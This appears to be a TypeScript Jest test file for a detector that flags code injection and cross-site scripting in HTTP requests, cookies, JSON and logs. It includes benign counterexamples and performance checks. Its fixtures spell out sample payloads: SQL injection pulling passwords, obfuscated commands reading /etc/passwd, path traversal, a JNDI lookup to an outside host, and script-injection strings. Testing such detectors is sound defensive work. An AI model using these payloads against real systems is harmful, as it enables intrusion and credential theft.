import { describe, expect, test } from '#jest';
import { growsInProportion } from '../../testing/growth.ts';
import { matchesIn } from './contract.ts';
import { requestFields } from './request-fields.ts';

/** A text is read as a request from its first character, so the contract's cases that prepend text do not apply. */
const found = (text: string): string[] =>
  matchesIn(requestFields, text).map(
    ({ code, start, end, confidence }) => `${code}${confidence < 0.5 ? '?' : ''} ${text.slice(start, end)}`,
  );

describe('request-fields finds', () => {
  test.each([
    ['GET /shop?id=1%2527%2520or%25201=1-- HTTP/1.1', 'CODE_INJECTION 1%2527%2520or%25201=1--'],
    ['page=2&sort=ORDER BY 9--', 'CODE_INJECTION ORDER BY 9--'],
    ["q=x' union/**/select password from users", "CODE_INJECTION x' union/**/select password from users"],
    ['host=example.com;c$@at+/et$@c/pas$@swd', 'CODE_INJECTION example.com;c$@at+/et$@c/pas$@swd'],
    ["X-Forwarded-For: 10.0.0.1; w'h'oami", "CODE_INJECTION 10.0.0.1; w'h'oami"],
    ['Cookie: lang=en; theme=$(id)', 'CODE_INJECTION $(id)'],
    ['file=..%252f..%252f..%252fetc%252fpasswd', 'CODE_INJECTION ..%252f..%252f..%252fetc%252fpasswd'],
    ['x=unserialize(data)', 'CODE_INJECTION unserialize(data)'],
    ['x=$%7bjndi:ldap://example.net/a}', 'CODE_INJECTION $%7bjndi:ldap://example.net/a}'],
    ['{"user": "jo", "bio": "\\u003csvg onload=alert(1)\\u003e"}', 'XSS \\u003csvg onload=alert(1)\\u003e'],
    ['{"host": "127.0.0.1; cat /etc/passwd"}', 'CODE_INJECTION 127.0.0.1; cat /etc/passwd'],
    ['name=%26lt;script%26gt;alert(1)', 'XSS %26lt;script%26gt;alert(1)'],
    ['go=java%0ascript:alert(1)', 'XSS java%0ascript:alert(1)'],
    ['title="><b onpointerenter=alert(1)>', 'XSS "><b onpointerenter=alert(1)>'],
    [
      'POST /a HTTP/1.1\nContent-Type: application/x-www-form-urlencoded\n\nto=%7Cping%20-c%203%2010.0.0.1&x=1',
      'CODE_INJECTION %7Cping%20-c%203%2010.0.0.1',
    ],
    [
      '9.8.7.6 - - [10/Oct/2023:13:55:36 +0000] "GET /a?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1" 200 12',
      'XSS %3Cscript%3Ealert(1)%3C/script%3E',
    ],
  ])('%s', (text, expected) => {
    expect(found(text)).toContain(expected);
  });
});

describe('request-fields ignores', () => {
  test.each([
    'GET /search?q=cats+%26+dogs&page=2 HTTP/1.1\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:120.0)\nCookie: sid=a1; id=5',
    "name=O'Brien&city=L'Aquila",
    'title=SELECT committee union talks',
    'q=drop the table lamp; it is 1 or 2 years old',
    'filter=price>10 and price<20',
    'note=Call me; time is short',
    'bio=I <3 coding & cats',
    'text=Hello <b>world</b>, see <a href="https://example.com">this</a>',
    '{"scripts": {"build": "tsc -p . && node dist/main.js", "test": "jest | tee log.txt"}}',
    '{"sql": "SELECT count(*) FROM orders WHERE status = ?"}',
    '{"comment": "Run `npm install` and then `ls -la` to see the files"}',
    '<?xml version="1.0"?><beans><bean class="org.springframework.jdbc.core.JdbcTemplate"/></beans>',
    'DB_HOST=localhost\nDB_PASS=$(cat /run/secrets/db)\nexport DB_HOST DB_PASS\nnode main.js',
    'TODAY=$(date +%F)',
    'How do I read /etc/passwd in Python? I tried open("/etc/passwd").read()',
    '',
  ])('%s', (text) => {
    expect(found(text).filter((one) => !one.includes('?'))).toEqual([]);
  });
});

test.each([
  'a=b&',
  'Cookie: a=b; ',
  '{"a":"<b>"},',
  'GET /?a=%27 HTTP/1.1\n',
  'x=;cat ',
  "a='or ",
  'a=<b c=d',
  '%25',
])('request-fields takes time linear in the length: %s', (piece) => {
  const inProportion = growsInProportion((length) =>
    matchesIn(requestFields, piece.repeat(Math.ceil(length / piece.length)).slice(0, length)),
  );
  expect(inProportion).toBe(true);
});
